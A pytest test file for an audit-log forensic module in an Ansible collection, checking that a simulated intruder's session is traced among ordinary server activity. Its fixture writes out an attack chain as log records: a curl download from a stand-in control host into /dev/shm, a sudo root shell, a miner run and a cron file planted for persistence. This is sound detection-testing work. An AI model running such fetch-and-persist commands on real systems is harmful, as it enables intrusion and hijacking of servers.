# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""An investigation from audit records: an intruder's session on a busy server is named, and little else."""

from __future__ import annotations

import pathlib
import time
import typing as t

import pytest
from ansible_collections.bulwark.servers.plugins.module_utils.investigation import audit_history, process_events
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.budget import Budget
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.followed import Followed
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.graph import (
    FactsGraph,
    Union,
    with_real_path,
)
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.model import Facts, Node
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.process_graph import ProcessGraph
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.process_table import Table
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.widen import Limits, Widened, widen

from tests.support.audit_log import Log, Who

_BOOT = 1_790_000_000.0
_START = _BOOT + 500_000
_INTRUDER, _CONTROL = "198.51.100.7", "203.0.113.9"
_SSHD = Who(700, 1, "/usr/sbin/sshd")
_NGINX = Who(800, 1, "/usr/sbin/nginx", uid=33)


class Site:
    """A log, and what was planted in it."""

    def __init__(self, directory: pathlib.Path) -> None:
        self.log = Log(_START)
        self.directory = directory
        self._pid = 20_000

    def pid(self) -> int:
        self._pid += 1
        return self._pid

    def ordinary(self, count: int) -> None:
        """Do what a server does: jobs of cron, sessions of an administrator, requests, updates."""
        for number in range(count):
            session = 1_000 + number
            job = Who(self.pid(), 600, "/usr/bin/dash", session, 0)
            self.log.execute(job, "sh", "-c", "/usr/local/bin/backup")
            copy = Who(self.pid(), job.pid, "/usr/bin/curl", session, 0)
            self.log.execute(copy, "curl", "-fsS", f"https://backup.example/{number}")
            self.log.connect(copy, "192.0.2.53", 53)
            self.log.connect(copy, "192.0.2.80", 443)
            self.log.write(copy, f"/var/backups/{number}.tar")
            self.log.write(job, "/var/log/backup.log")
            if number % 3 == 0:
                shell = Who(self.pid(), 710, "/usr/bin/bash", 5_000 + number, 1000, 1000)
                self.log.sign_in(710, 5_000 + number, 1000, "192.0.2.20")
                self.log.execute(shell, "-bash")
                edit = Who(self.pid(), shell.pid, "/usr/bin/vim", shell.ses, 1000, 1000)
                self.log.execute(edit, "vim", "/etc/motd")
                self.log.write(edit, "/etc/motd")
            self.log.connect(_NGINX, f"192.0.2.{100 + number % 100}", 40_000 + number, accepts=True)
            self.log.wait(20)

    def intrude(self) -> set[str]:
        """Sign in, fetch a program, run it, and have cron start it again. Return the names of what was planted."""
        session = 77
        door = Who(self.pid(), 700, "/usr/sbin/sshd")
        self.log.sign_in(door.pid, session, 1001, _INTRUDER)
        shell = Who(self.pid(), door.pid, "/usr/bin/bash", session, 1001, 1001)
        self.log.execute(shell, "-bash")
        fetch = Who(self.pid(), shell.pid, "/usr/bin/curl", session, 1001, 1001)
        self.log.execute(fetch, "curl", "-o", "/dev/shm/.x", f"http://{_CONTROL}/x")
        self.log.connect(fetch, "192.0.2.53", 53)
        self.log.connect(fetch, _CONTROL, 80)
        self.log.write(fetch, "/dev/shm/.x")
        root = Who(self.pid(), shell.pid, "/usr/bin/sudo", session, 1001, 0)
        self.log.execute(root, "sudo", "-s")
        miner = Who(self.pid(), root.pid, "/dev/shm/.x", session, 1001, 0)
        self.log.execute(miner, "/dev/shm/.x", "--user", "w", "--password", "hunter2")
        self.log.connect(miner, _CONTROL, 443)
        self.log.write(root, "/etc/cron.d/sys")
        self.log.wait(60)
        # Started by cron later, in another session.
        again = Who(self.pid(), 600, "/dev/shm/.x", 88, 0, 0)
        self.log.execute(again, "/dev/shm/.x", "--user", "w")
        self.log.connect(again, _CONTROL, 443)
        self.pids = {"miner": miner.pid, "fetch": fetch.pid, "again": again.pid}
        return {
            *(f"process:{who.pid}" for who in (shell, fetch, root, miner, again)),
            *("file:/dev/shm/.x", "file:/etc/cron.d/sys"),
            *(f"address:{_CONTROL}", f"address:{_INTRUDER}", "session:77"),
        }

    def flood(self, count: int) -> None:
        """Start programs that do nothing but fill the log."""
        for _number in range(count):
            self.log.execute(Who(self.pid(), 900, "/usr/bin/true", None, 1001), "true")

    def table(self, followed: Followed | None = None) -> tuple[Table, audit_history.History, Budget]:
        path = self.log.save(self.directory / "audit.log")
        budget = Budget(60, 1 << 30)
        table = Table({}, _BOOT)
        return table, audit_history.read([str(path)], 0.0, table, budget, followed), budget

    def widened(self, seed: t.Callable[[Table], str], followed: Followed | None = None) -> Widened:
        table, history, _budget = self.table(followed)
        graph = ProcessGraph(table, history.sign_ins, _owner, set())
        identity = seed(table)
        known = FactsGraph([Facts([Node(identity, identity)])])
        return widen(Union([graph, known]), [identity], Limits(), {"address:192.0.2.53"})


def _owner(path: bytes) -> str:
    return "a-package 1" if path.startswith((b"/usr/bin/", b"/usr/sbin/")) else ""


def _names(widened: Widened) -> set[str]:
    """Return the ids without the times of processes."""
    return {identity.partition("@")[0] for identity in widened.nodes}


def _pid(number: int) -> t.Callable[[Table], str]:
    return lambda table: next(process.id for process in table.all if process.pid == number)


@pytest.fixture
def site(tmp_path: pathlib.Path) -> Site:
    return Site(tmp_path)


@pytest.mark.parametrize("begin", ["miner", "fetch", "again", "file", "address", "intruder"])
def test_what_was_planted_is_named_wherever_it_begins_and_little_else(site: Site, begin: str) -> None:
    site.ordinary(150)
    planted = site.intrude()
    site.ordinary(150)
    seeds: dict[str, t.Callable[[Table], str]] = {
        "file": lambda _table: "file:/dev/shm/.x",
        "address": lambda _table: f"address:{_CONTROL}",
        "intruder": lambda _table: f"address:{_INTRUDER}",
    }
    seed = seeds.get(begin) or _pid(site.pids[begin])

    widened = site.widened(seed)

    named = _names(widened)
    # What the planted processes executed, the accounts that they ran as and the server that they came through.
    context = {"file:/usr/bin/bash", "file:/usr/bin/curl", "file:/usr/bin/sudo", "account:0", "account:1001"}
    context |= {"session:88", "address:192.0.2.53"}
    missing, unrelated = planted - named, named - planted - context
    assert not missing
    assert len(unrelated) <= len(named) / 10, sorted(unrelated)


def test_each_node_has_a_reason_that_leads_back_to_the_beginning(site: Site) -> None:
    site.intrude()
    widened = site.widened(_pid(site.pids["miner"]))
    reasons = {reason.node: reason for reason in widened.reasons}

    assert reasons.keys() == widened.nodes.keys()
    for reason in widened.reasons:
        steps = reason
        while steps.via is not None:
            assert reasons[steps.via].step == steps.step - 1
            steps = reasons[steps.via]
        assert steps.step == 0
    cron = reasons["file:/etc/cron.d/sys"]
    assert cron.text.startswith("sudo (")
    assert cron.text.endswith(") wrote it")


def test_a_pid_that_is_used_again_is_another_process(site: Site) -> None:
    first = Who(4_000, 50, "/opt/a", 7, 1000)
    site.log.execute(first, "/opt/a")
    site.log.wait(100)
    site.log.execute(Who(4_000, 60, "/opt/b", 8, 1000), "/opt/b")
    table, _history, _budget = site.table()

    processes = table.by_pid()[4_000]

    assert [process.exe for process in processes] == [b"/opt/a", b"/opt/b"]
    assert len({process.id for process in processes}) == 2


def test_an_orphan_that_executes_another_program_stays_the_same_process(site: Site) -> None:
    site.log.execute(Who(4_000, 50, "/opt/a", 7, 1000), "/opt/a")
    site.log.execute(Who(4_000, 1, "/opt/b", 7, 1000), "/opt/b")
    table, _history, _budget = site.table()

    (process,) = table.by_pid()[4_000]

    assert [program.exe for program in process.programs] == [b"/opt/a", b"/opt/b"]


def test_paths_that_are_relative_or_strange_are_named_in_full(site: Site) -> None:
    who = Who(10, 9, "/usr/bin/cp", 3, 1000)
    site.log.write(who, "x y\nz", cwd="/srv/my dir".replace(" ", "_"))
    table, _history, _budget = site.table()

    (process,) = table.all

    assert [act.path for act in process.acts] == [b"/srv/my_dir/x y\nz"]


def test_a_file_has_one_name_where_directories_are_merged(site: Site) -> None:
    site.log.execute(Who(10, 9, "/usr/bin/x", 3, 1000), "x", script="/bin/x")
    site.log.write(Who(11, 9, "/opt/y", 4, 1000), "/sbin/x")
    table, history, _budget = site.table()

    def real(path: bytes) -> bytes:
        return b"/usr/bin/x" if path in (b"/bin/x", b"/sbin/x") else path

    graph = ProcessGraph(table, history.sign_ins, lambda _path: "", set(), real)

    assert {link.relation for link in graph.links("file:/usr/bin/x")} == {"executes", "wrote"}
    assert {link.target for link in graph.links(table.all[1].id) if link.relation == "wrote"} == {"file:/usr/bin/x"}
    facts = Facts([Node("file:/bin/x", "/bin/x")], [])
    assert FactsGraph([facts], with_real_path(real)).node("file:/usr/bin/x") is not None


def test_a_failed_sign_in_opens_no_session(site: Site) -> None:
    site.log.sign_in(5, 9, 1000, _INTRUDER, result="failed")
    site.log.sign_in(5, 10, 1000, _INTRUDER)
    _table, history, _budget = site.table()

    assert [(each.session, each.address) for each in history.sign_ins] == [(10, _INTRUDER)]


def test_the_timeline_has_commands_without_passwords(site: Site) -> None:
    site.intrude()
    table, history, _budget = site.table()
    graph = ProcessGraph(table, history.sign_ins, _owner, set())
    seed = _pid(site.pids["miner"])(table)
    widened = widen(graph, [seed], Limits())

    texts = [event.text for event in process_events.of(graph, widened.nodes, history.sign_ins)]

    assert not [text for text in texts if "hunter2" in text]
    assert any("executed: /dev/shm/.x --user w --password ***" in text for text in texts)
    assert any(f"signed in from {_INTRUDER} through /usr/sbin/sshd (session 77)" in text for text in texts)
    assert any(f"connected to {_CONTROL}:443" in text for text in texts)


def test_lines_of_other_hosts_and_forged_ones_are_no_processes(site: Site) -> None:
    who = Who(10, 9, "/opt/evil", 3, 1000)
    site.log.execute(who, "/opt/evil")
    record = site.log.text()
    other = "".join(f"node=elsewhere.example {line}\n" for line in record.splitlines())
    forged = "type=SYSCALL msg=audit(1.0:1): pid=1 exe=\x00\xff\n" + "x" * 100_000 + "\n"
    path = site.directory / "audit.log"
    path.write_text(forged + other.replace("pid=10", "pid=11") + record, encoding="utf-8", errors="replace")
    table, budget = Table({}, _BOOT), Budget(60, 1 << 30)

    audit_history.read([str(path)], 0.0, table, budget)

    assert [process.pid for process in table.all] == [10]
    assert budget.skipped_count


def test_rotated_logs_are_read_first_and_old_ones_are_not(site: Site) -> None:
    site.log.execute(Who(10, 9, "/opt/a", 3, 1000), "/opt/a")
    site.log.save(site.directory / "audit.log.1")
    site.log.lines.clear()
    site.log.execute(Who(11, 10, "/opt/b", 3, 1000), "/opt/b")
    table, _history, _budget = site.table()
    second = next(process for process in table.all if process.pid == 11)
    assert second.parent is not None
    assert second.parent.pid == 10

    table, budget = Table({}, _BOOT), Budget(60, 1 << 30)
    history = audit_history.read([str(site.directory / "audit.log")], time.time() + 60, table, budget)
    assert (history.events, table.all) == (0, [])


@pytest.mark.parametrize("begin", ["process:{miner}@0", "file:/dev/shm/.x", f"address:{_CONTROL}"])
@pytest.mark.parametrize(("before", "after"), [(300, 0), (0, 300), (300, 300)])
def test_a_flood_of_processes_hides_nothing_of_the_subject(
    site: Site, monkeypatch: pytest.MonkeyPatch, begin: str, before: int, after: int
) -> None:
    """Thousands of short programs a second fill the table: those after the first 40,000 were left out."""
    monkeypatch.setattr(audit_history, "MOST_PROCESSES", 100)
    site.flood(before)
    planted = site.intrude()
    time = site.log.time
    site.flood(after)
    followed = Followed([begin.format(**site.pids)], time + 10 if begin.startswith("process") else None)
    table, _history, budget = site.table(followed)

    assert {site.pids[name] for name in ("miner", "fetch")} <= {process.pid for process in table.all}
    assert len(table.all) < 150
    assert [cut.limit for cut in budget.cuts] == ["memory"]
    named = _names(site.widened(_pid(site.pids["miner"]), Followed([begin.format(**site.pids)], followed.until)))
    assert len(planted & named) >= 0.9 * len(planted)


def test_a_flood_of_acts_of_one_process_hides_not_the_one_elsewhere(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_history, "MOST_ACTS_OF_ONE", 20)
    who = Who(10, 9, "/opt/x", 3, 1000)
    for number in range(200):
        site.log.write(who, f"/tmp/noise/{number}")
    site.log.write(who, "/etc/cron.d/planted")
    table, _history, budget = site.table()

    paths = [act.path for act in table.all[0].acts]
    assert len(paths) == 21
    assert paths[-1] == b"/etc/cron.d/planted"
    assert [cut.limit for cut in budget.cuts] == ["memory"]


def test_of_too_much_the_oldest_is_left_out_and_that_is_noted(site: Site) -> None:
    site.ordinary(30)
    path = site.log.save(site.directory / "audit.log")
    whole, part = Table({}, _BOOT), Table({}, _BOOT)
    audit_history.read([str(path)], 0.0, whole, Budget(60, 1 << 30))
    budget = Budget(60, path.stat().st_size // 2)

    audit_history.read([str(path)], 0.0, part, budget)

    assert 0 < len(part.all) < len(whole.all)
    assert part.all[-1].id == whole.all[-1].id
    assert [cut.limit for cut in budget.cuts] == ["size"]
